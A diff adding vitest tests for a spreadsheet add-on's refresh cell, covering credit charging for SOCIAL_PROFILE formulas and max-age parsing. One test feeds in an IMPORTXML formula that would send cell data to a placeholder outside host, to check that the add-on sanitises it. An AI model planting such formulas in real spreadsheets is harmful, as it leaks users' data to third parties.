@@ -1,0 +1,99 @@
+import { expect, test } from 'vitest';
+import { readMaxAge, refreshedText } from '../../../addon/formulas/max-age.ts';
+import { people, setKey, setUpWorkbench } from '../spreadsheet-setup.ts';
+
+const bench = setUpWorkbench();
+const [ada = '', ben = ''] = Object.keys(people);
+const now_ms = Date.UTC(2026, 10, 20, 10);
+const minute_ms = 60_000;
+
+async function openWithRefreshCell() {
+  const file = await bench.open();
+  setKey(file);
+  file.select('H1');
+  file.answer({ button: 'OK' });
+  file.call('refresh_');
+  return file;
+}
+
+async function charged(): Promise<number> {
+  return (await bench.api.log()).credits_charged;
+}
+
+test('Refresh makes the selected empty cell the refresh cell, as text, and overwrites no other', async () => {
+  const file = await bench.open();
+  file.type('H1', 'mine');
+  file.select('H1');
+  file.answer({ button: 'OK' });
+  file.call('refresh_');
+  expect(file.values('H1')).toEqual([['mine']]);
+  file.select('H2');
+  file.answer({ button: 'CANCEL' }, { button: 'OK' });
+  file.call('refresh_');
+  expect(file.values('H2')).toEqual([['']]);
+  file.call('refresh_');
+  expect(file.sheet().H2).toEqual({ type: 'text', value: 'fresh 2026-11-20T10:00:00.000Z' });
+});
+
+test('Refresh buys fresh data for the formulas that name the refresh cell, and for no others', async () => {
+  const file = await openWithRefreshCell();
+  file.type('A1', ada, ben);
+  file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
+  file.type('B2', '=SOCIAL_PROFILE(A2, "followers,credits_charged")');
+  expect(await charged()).toBe(2);
+  file.pass(minute_ms);
+  file.call('refresh_');
+  expect(await charged()).toBe(3);
+  expect((await bench.api.log()).requests.at(-1)?.parameters).toMatchObject({
+    url: [ada],
+    fresh: ['true'],
+    cache_max_age: [],
+  });
+});
+
+test('reopening a file after a refresh buys nothing', async () => {
+  const file = await openWithRefreshCell();
+  file.type('A1', ada);
+  file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
+  expect(file.values('D1')).toEqual([[1]]);
+  file.pass(3 * minute_ms);
+  file.reopen();
+  expect(file.values('D1')).toEqual([[0]]);
+  expect(await charged()).toBe(1);
+});
+
+test('a word in the refresh cell stays there: 7d buys only what is older than seven days', async () => {
+  const file = await openWithRefreshCell();
+  file.type('A1', ada);
+  file.type('H1', '7d');
+  file.type('B1', '=SOCIAL_PROFILE(A1, "followers", SOCIAL_REFRESH)');
+  file.pass(minute_ms);
+  file.call('refresh_');
+  expect(file.values('H1')).toEqual([['7d 2026-11-20T10:01:00.000Z']]);
+  const { requests } = await bench.api.log();
+  expect(requests.slice(-2).map(({ parameters }) => parameters.cache_max_age)).toEqual([['7d'], ['7d']]);
+});
+
+test.each([
+  ['', '1d'],
+  [undefined, '1d'],
+  [true, '1d'],
+  [new Date(now_ms), '1d'],
+  [' 14D ', '14d'],
+  ['fresh', 'fresh'],
+  [`fresh ${new Date(now_ms - minute_ms).toISOString()}`, 'fresh'],
+  [`fresh ${new Date(now_ms - 3 * minute_ms).toISOString()}`, '1d'],
+  [`fresh ${new Date(now_ms + minute_ms).toISOString()}`, '1d'],
+  ['fresh whenever', '1d'],
+])('max_age %s asks for %s', (asked, expected) => {
+  expect(readMaxAge(asked, now_ms)).toBe(expected);
+});
+
+test('a max_age that is not known is an error, a number too', () => {
+  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, now_ms)).toThrow('did you mean');
+});
+
+test('what stands in the refresh cell never becomes more than a known word and a time', () => {
+  expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', now_ms)).toBe('fresh 2026-11-20T10:00:00.000Z');
+  expect(refreshedText('3d old', now_ms)).toBe('3d 2026-11-20T10:00:00.000Z');
+});
